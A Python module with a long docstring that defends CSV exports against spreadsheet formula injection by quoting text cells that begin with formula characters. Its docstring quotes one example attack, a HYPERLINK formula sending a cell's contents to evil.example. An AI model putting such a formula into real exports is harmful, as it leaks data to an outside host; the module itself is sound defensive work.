"""CSV cells a spreadsheet cannot run: text that would start a formula is made inert.

The exports people open in Excel, LibreOffice or Google Sheets (the audit trail, the
excursion history, an evidence package's ``gaps.csv``) carry text that operators and
devices wrote: a comment of ``=HYPERLINK("https://evil.example/?"&A1, "details")`` would
otherwise be a live formula in the reviewer's spreadsheet (OWASP "CSV Injection").

The rule, applied to every cell the product writes to such a CSV:

* A **text** cell (a ``str``) whose first character is ``=``, ``+``, ``-``, ``@``, a tab
  or a carriage return gets a single quote ``'`` in front. Spreadsheets then show it as
  text; a person reading the CSV sees the quote and what follows, unchanged.
* **Numbers are never altered.** An ``int`` or a ``float`` the product writes from a
  numeric field (a reading of -5.3, a limit, a sequence number) is passed through as the
  number, so the csv module writes ``-5.3`` and a spreadsheet reads a number, which is not a
  formula. Callers therefore hand numeric columns over as numbers, never as pre-formatted
  text. Text a person typed is text whatever it looks like: a comment "-5" gets the quote.
* Anything else (None, bool, ...) passes through as the csv module would write it.

Only the exported copy changes: the database, the hash chain and the JSON exports keep
what was written. ``readings.csv`` of an evidence package and its API twin are not
written through here (``gmp_edge.evidence.readings_csv``): they are the original record,
byte for byte, for a CSV parser and the offline verifier.

This module imports nothing of ours (a leaf, enforced by import-linter).
"""

from __future__ import annotations

from collections.abc import Iterable

#: first characters that make a spreadsheet treat a cell as a formula (OWASP's list)
FORMULA_STARTS = frozenset("=+-@\t\r")


def neutralise(value: object) -> object:
    """``value`` as a CSV cell a spreadsheet shows and never evaluates.

    A ``str`` starting with one of :data:`FORMULA_STARTS` gets a leading ``'``; every
    other value, numbers above all, is returned as it is.
    """
    if isinstance(value, str) and value[:1] in FORMULA_STARTS:
        return "'" + value
    return value


def neutralise_row(values: Iterable[object]) -> list[object]:
    """A row for ``csv.writer.writerow`` with every cell passed through :func:`neutralise`."""
    return [neutralise(v) for v in values]
